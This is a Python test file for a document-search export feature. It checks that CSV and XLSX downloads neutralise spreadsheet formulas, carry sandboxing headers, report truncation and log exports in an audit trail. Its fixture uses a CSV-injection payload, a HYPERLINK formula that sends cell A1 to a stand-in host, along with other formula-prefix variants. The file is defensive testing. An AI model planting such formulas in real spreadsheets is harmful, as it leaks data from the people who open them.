"""A list of results as a file: what is in it, that no cell is a formula, and that it is noted before it leaves."""

import csv
import io
import re
import zipfile
from html import unescape
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlmodel import select

from index.values import IndexDocument, IndexPage
from records.tables import AuditEvent
from records.values import Proposal
from review_ui import export
from review_ui.spreadsheets import as_csv, as_xlsx, harmless

FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1,"open")'
FORMULAS = (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "  =1", "＝1", "\r=1")


def strings(workbook: bytes) -> list[str]:
    """All texts of a workbook, in the order in which they were written."""
    with zipfile.ZipFile(io.BytesIO(workbook)) as parts:
        shared = parts.read("xl/sharedStrings.xml").decode()
    return [unescape(each) for each in re.findall(r"<t(?: [^>]*)?>(.*?)</t>", shared, re.DOTALL)]


def sheet(workbook: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(workbook)) as parts:
        return parts.read("xl/worksheets/sheet1.xml").decode()


@pytest.fixture(scope="module")
def listed(office: Any) -> str:
    """A document whose every value was chosen by somebody who wants to run something in a spreadsheet."""
    names = ("requesting_authority", "request_type", "requesting_state", "date_of_request")
    document_id: str = office.drop(
        None,
        name=f"{FORMULA}.pdf",
        proposals=(
            *(Proposal(name, FORMULA, 0.9, "test") for name in names),
            Proposal("references", FORMULA, 0.9, "test", item=0),
        ),
    )
    pages = (IndexPage(1, "en", "exportable"), IndexPage(4, "en", "exportable"))
    office.index.put([IndexDocument(document_id, "registry", False, pages)], sequence=next(office.numbers))
    return document_id


def test_csv_holds_what_the_screen_shows_and_no_formula(ines, listed) -> None:
    answer = ines.get("/search/export?q=exportable")
    assert answer.headers["content-disposition"].startswith('attachment; filename="rogatory-search.csv"')
    assert answer.headers["content-security-policy"] == "sandbox; default-src 'none'"
    assert answer.content.startswith(b"\xef\xbb\xbf")
    head, row = csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""))
    said = dict(zip(head, row, strict=True))
    assert said["Fingerprint"] == listed
    assert said["Found on pages"] == "1 4"
    assert said["File"] == f"'{FORMULA}.pdf"
    assert said["Reference"] == f"'{FORMULA}"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_xlsx_holds_the_same_as_texts(ines, listed) -> None:
    made = ines.get("/search/export?q=exportable&kind=xlsx").content
    assert {"Fingerprint", listed, f"{FORMULA}.pdf", FORMULA} <= set(strings(made))
    assert "<f>" not in sheet(made)
    assert "hyperlink" not in sheet(made)
    assert made == ines.get("/search/export?q=exportable&kind=xlsx").content


def test_it_is_in_the_language_of_the_person(ines, listed) -> None:
    csv_file = ines.get("/search/export?q=exportable", headers={"accept-language": "pt"}).content.decode("utf-8-sig")
    assert csv_file.splitlines()[0].count(",") == len(export.COLUMNS) - 1
    assert ines.get("/search/export?q=exportable&kind=pdf").status_code == 404


def test_what_is_cut_off_is_told_on_the_screen_and_in_the_file(ines, monkeypatch, office) -> None:
    for _ in range(2):
        pages = (IndexPage(1, "en", "overflowing"),)
        office.index.put([IndexDocument(office.drop(None), "registry", False, pages)], sequence=next(office.numbers))
    monkeypatch.setattr(export, "MOST_ROWS", 1)
    rows = list(csv.reader(io.StringIO(ines.get("/search/export?q=overflowing").content.decode("utf-8-sig"))))
    assert len(rows) == 3
    assert rows[-1] == ["Only the first 1 of 2 documents: narrow the search for the others."]


def test_who_took_a_list_along_is_in_the_trail_and_the_words_are_not(office, ines, listed) -> None:
    ines.get("/search/export?q=exportable+unmistakably&kind=xlsx")
    ines.get("/search/export?q=exportable&kind=csv")
    with office.database.reading() as session:
        events = [e for e in session.exec(select(AuditEvent)) if e.act == "exported"]
    assert [e.actor for e in events[-2:]] == ["ines", "ines"]
    assert events[-2].detail == {"found": 0, "rows": 0, "kind": "xlsx"}
    assert "unmistakably" not in str([e.detail for e in events])


@pytest.mark.parametrize("text", FORMULAS)
def test_whatever_begins_like_a_formula_is_made_harmless(text: str) -> None:
    assert harmless(text).startswith("'")
    assert "<f>" not in sheet(as_xlsx([["head"], [text]]))


@settings(max_examples=40)
@given(st.lists(st.lists(st.text() | st.integers(0, 10**9), min_size=1, max_size=4), min_size=1, max_size=5))
def test_any_text_goes_into_both_files_and_comes_out_of_csv_as_it_was(rows: list[list[str | int]]) -> None:
    back = list(csv.reader(io.StringIO(as_csv(rows).decode("utf-8-sig"), newline="")))
    expected = [[str(cell) if isinstance(cell, int) else harmless(cell) for cell in row] for row in rows]
    assert back == [[cell.encode("utf-8", "replace").decode() for cell in row] for row in expected]
    assert as_xlsx(rows).startswith(b"PK")
